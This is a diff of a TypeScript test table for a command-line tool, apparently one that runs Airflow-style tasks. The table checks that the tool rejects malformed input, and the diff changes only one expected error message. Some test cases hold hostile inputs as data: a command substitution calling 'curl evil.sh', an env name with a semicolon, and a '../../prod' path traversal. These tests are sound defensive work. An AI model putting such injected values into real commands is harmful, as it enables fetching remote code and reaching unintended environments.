@@ -124,7 +124,7 @@ const CASES: Case[] = [
   {id: 'N7', what: 'task command with command substitution', args: ['task', 'dags list $(curl evil.sh)'], expect: /Shell syntax "\(" is not supported|Shell syntax "\$\(" is not supported|Shell syntax/, code: 2},
   {id: 'N8', what: 'task command that is only spaces', args: ['task', '   '], expect: /No command given/, code: 2},
   {id: 'N9', what: 'task -e name with shell syntax', args: ['task', 'version', '-e', 'A;B=1'], expect: /Invalid --container-env "A;B"/, code: 2},
-  {id: 'N9b', what: 'task --env with a variable (--env picks the environment)', args: ['task', 'version', '--env', 'A=1'], expect: /Invalid environment name "A=1"[\s\S]*-e NAME=value/, code: 2},
+  {id: 'N9b', what: 'task --env with a variable (--env picks the environment)', args: ['task', 'version', '--env', 'A=1'], expect: /Invalid environment name "A=1"/, code: 2},
   {id: 'N9c', what: '--env with path traversal', args: ['url', '--env', '../../prod'], expect: /Invalid environment name "\.\.\/\.\.\/prod"/, code: 2},
   {id: 'N10', what: 'task --timeout negative', args: ['task', 'version', '--wait', '--timeout', '-5m'], expect: /Invalid --timeout "-5m"/, code: 2},
   {id: 'N11', what: 'scale count in hex', args: ['scale', 'worker', '0x10'], expect: /Invalid count "0x10"/, code: 2},
